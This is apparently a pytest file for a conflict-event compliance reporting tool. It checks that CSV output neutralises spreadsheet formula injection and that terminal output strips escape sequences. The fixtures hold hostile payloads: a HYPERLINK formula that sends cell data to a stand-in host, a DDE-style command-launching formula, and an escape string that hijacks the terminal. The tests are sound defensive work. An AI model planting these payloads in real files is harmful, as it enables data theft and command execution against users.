"""Hostile input, round three (issue 23): CSV cells a spreadsheet never runs (item 3), text that reaches a
terminal made inert in one place (item 4), a CSV without the required columns as one error (item 11)."""
from __future__ import annotations

import contextlib
import datetime as dt
import csv
import io
import json
import shutil
from pathlib import Path

import pytest

import doha_compliance as dc
from conftest import ROOT, RULES, run_main

ESC = "\x1b]0;pwned\x07\x1b[2J"
EVENT = {"id": "a1", "date": "2020-10-10", "type": "attack", "actor": "taliban", "location_kind": "city"}


# --- item 3: spreadsheet formula injection in --format csv -------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"]


def _csv_report(tmp_path: Path, ids: list, *extra: str) -> list:
    path = tmp_path / "events.jsonl"
    path.write_text("".join(json.dumps(dict(EVENT, id=i)) + "\n" for i in ids), encoding="utf-8")
    result = run_main("report", "--rules", str(RULES), "--events", str(path), "--as-of", "2020-10-31",
                      "--format", "csv", *extra)
    assert result.returncode == 0, result.stderr
    return list(csv.reader(io.StringIO(result.stdout)))


def test_event_ids_starting_a_formula_are_text_in_the_csv(tmp_path):
    table = _csv_report(tmp_path, FORMULAS + ["plain-1"])
    header, rows = table[0], table[1:]
    evidence = [row[header.index("evidence")] for row in rows]
    assert {f"'{f}" for f in FORMULAS} | {"plain-1"} <= set(evidence)  # ordinary ids unchanged
    for row in rows:  # no cell of any column starts a formula
        assert not any(c and c[0] in "=+-@\t\r" for c in row), row


def test_every_csv_table_goes_through_one_cell_guard(monkeypatch):
    from doha_compliance.renderers import csv as csv_renderer
    from doha_compliance.report.tables import COLUMNS
    hostile = {"findings": "=1+1", "scores": "@cmd", "series": "-1+cmd|x"}
    for table, text in hostile.items():
        row = {c: text for c in COLUMNS[table]}
        numbers = {c: -3 for c in ("score", "value", "baseline", "limit") if c in row}
        row.update(numbers)
        monkeypatch.setattr(csv_renderer, "rows", lambda report, t, row=row: iter([row]))
        out = csv_renderer.render_csv(object(), table)  # type: ignore[arg-type]  # rows() is replaced
        header, cells = list(csv.reader(io.StringIO(out)))
        for name, cell in zip(header, cells):
            # a number the report computed is a number (a sum of a field can be negative), not a formula
            assert cell == ("-3" if name in numbers else f"'{text}"), (table, name, cell)


def test_the_cell_guard_leaves_ordinary_values_alone():
    from doha_compliance.renderers.csv import cell
    for value in ("oct2020-us-strike-wardak", "a;b", "x; -3 and 4", "2020-10", "", "it's"):
        assert cell(value) == value
    assert cell(None) == "" and cell(-3) == -3 and cell(1.5) == 1.5 and cell(0) == 0
    assert cell("a;=b;@c") == "a;'=b;'@c" and cell("-") == "'-"


def test_dataframes_keep_the_raw_values(tmp_path):
    pytest.importorskip("pandas")
    path = tmp_path / "events.jsonl"
    path.write_text(json.dumps(dict(EVENT, id="=1+1")) + "\n", encoding="utf-8")
    report = dc.evaluate(dc.load_rules(ROOT / RULES), dc.read_events(str(path)),
                         as_of=dt.date(2020, 10, 31))
    frame = report.to_frame("findings")
    assert "=1+1" in set(frame["evidence"])  # a DataFrame is not a spreadsheet


# --- item 4: terminal escapes -----------------------------------------------------------------------

class FakeTty(io.StringIO):
    def isatty(self) -> bool:
        return True


def on_terminal(*args: str) -> tuple:
    """cli.main with stdout a terminal (stderr a plain stream: messages are inert there regardless)."""
    from doha_compliance import cli
    out, err = FakeTty(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli.main(list(args))
    return code, out.getvalue(), err.getvalue()


def _hostile_events(tmp_path: Path) -> Path:
    path = tmp_path / "events.jsonl"
    path.write_text(json.dumps(dict(EVENT, id="a1" + ESC, description="x" + ESC)) + "\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("fmt", ["md", "csv", "html", "json", "text"])
def test_a_report_on_a_terminal_is_inert_and_into_a_pipe_keeps_its_bytes(tmp_path, fmt):
    path = _hostile_events(tmp_path)
    args = ("report", "--rules", str(RULES), "--events", str(path), "--as-of", "2020-10-31", "--format", fmt)
    code, out, _ = on_terminal(*args)
    assert code == 0 and out
    assert "\x1b" not in out and "\x07" not in out
    piped = run_main(*args)
    file = tmp_path / f"report.{fmt}"
    assert run_main(*args, "--output", str(file)).returncode == 0
    assert piped.stdout == file.read_text(encoding="utf-8")  # a pipe gets the file's bytes
    if fmt in ("md", "csv"):
        assert "\x1b" in piped.stdout  # the formats keep the input's text; only a terminal is protected


def test_header_names_in_an_error_message_are_inert(tmp_path):
    path = tmp_path / "events.csv"
    path.write_text(f"id,date,{ESC}type,actor\na1,2020-10-10,attack,taliban\n", encoding="utf-8")
    result = run_main("report", "--rules", str(RULES), "--events", str(path))
    assert result.returncode == 2
    assert "\x1b" not in result.stderr and "\\x1b]0;pwned\\x07" in result.stderr  # stderr: inert even into a pipe


def test_mapping_check_on_a_terminal_is_inert(tmp_path):
    source = ROOT / "examples" / "acled" / "afghanistan_oct2020_sample.csv"
    rows = list(csv.reader(source.open(encoding="utf-8", newline="")))
    header = rows[0]
    rows[1][header.index("actor1")] = "Taliban" + ESC
    rows[1][header.index("sub_event_type")] = "Armed clash" + ESC
    path = tmp_path / "acled.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    code, out, _ = on_terminal("mapping", "check", str(path))
    assert code == 0 and "Taliban\\x1b]0;pwned" in out and "\x1b" not in out
    code, out, _ = on_terminal("mapping", "check", str(path), "--format", "json")
    assert code == 0 and "\x1b" not in out
    piped = run_main("mapping", "check", str(path), "--format", "json")
    assert json.loads(piped.stdout)["actors"]  # into a pipe: the JSON as it is


def test_rules_check_and_list_on_a_terminal_are_inert(tmp_path):
    folder = tmp_path / ("rules" + ESC)
    shutil.copytree(ROOT / RULES, folder)
    code, out, _ = on_terminal("rules", "check", str(folder))
    assert code == 0 and "ok" in out and "\x1b" not in out and "\\x1b" in out
    code, out, _ = on_terminal("rules", "list", str(folder))
    assert code == 0 and out and "\x1b" not in out


def test_a_usage_error_quoting_what_was_typed_is_inert():
    result = run_main("report", "--rules", str(RULES), "--events", "x.yaml", "--bogus" + ESC)
    assert result.returncode == 2
    assert "unrecognized arguments: --bogus\\x1b]0;pwned" in result.stderr and "\x1b" not in result.stderr


def test_say_is_inert_on_stderr_always_and_on_stdout_only_on_a_terminal():
    from doha_compliance.cli.output import say
    for stdout, inert in ((FakeTty(), True), (io.StringIO(), False)):
        err = io.StringIO()
        with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(err):
            say("a" + ESC + "\tb\nc")
            say("x" + ESC, err=True)
        assert stdout.getvalue() == ("a\\x1b]0;pwned\\x07\\x1b[2J\tb\nc\n" if inert else "a" + ESC + "\tb\nc\n")
        assert err.getvalue() == "x\\x1b]0;pwned\\x07\\x1b[2J\n"


# --- item 11: a CSV without the required columns ----------------------------------------------------

def test_an_acled_export_with_renamed_columns_is_one_error_naming_the_way_out(tmp_path):
    source = ROOT / "examples" / "acled" / "afghanistan_oct2020_sample.csv"
    lines = source.read_text(encoding="utf-8").splitlines(keepends=True)
    lines[0] = lines[0].replace("event_id_cnty", "EventID").replace("event_date", "EventDate")
    path = tmp_path / "renamed.csv"
    path.write_text("".join(lines), encoding="utf-8")
    result = run_main("report", "--rules", str(RULES), "--events", str(path))
    assert result.returncode == 2 and result.stdout == ""
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
    assert f"{path}:1: the header row lacks the column(s) id, date, type, actor" in result.stderr
    assert "Found: EventID, EventDate," in result.stderr
    assert "--events-format acled --mapping FILE" in result.stderr


def test_a_mapping_that_does_not_fit_the_header_is_named(tmp_path):
    path = tmp_path / "renamed.csv"
    path.write_text("EventID,EventDate,Actor\nx1,2020-10-10,Taliban\n", encoding="utf-8")
    mapping = dc.__file__.replace("__init__.py", "mappings/acled.yaml")
    result = run_main("report", "--rules", str(RULES), "--events", str(path), "--mapping", mapping)
    assert result.returncode == 2 and result.stderr.count("\n") == 1
    assert "The --mapping file names columns this header lacks too (event_id_cnty, event_date, actor1" in result.stderr


def test_a_native_header_lacking_a_column_is_one_error_and_no_export_is_suggested(tmp_path):
    path = tmp_path / "events.csv"
    path.write_text("id,date,actor,fatalities\n" + "".join(f"a{i},2020-10-10,taliban,1\n" for i in range(500)),
                    encoding="utf-8")
    result = run_main("report", "--rules", str(RULES), "--events", str(path), "--format", "json")
    assert result.returncode == 2 and result.stdout == "" and result.stderr.count("\n") == 1
    assert "lacks the column(s) type;" in result.stderr and "ACLED" not in result.stderr
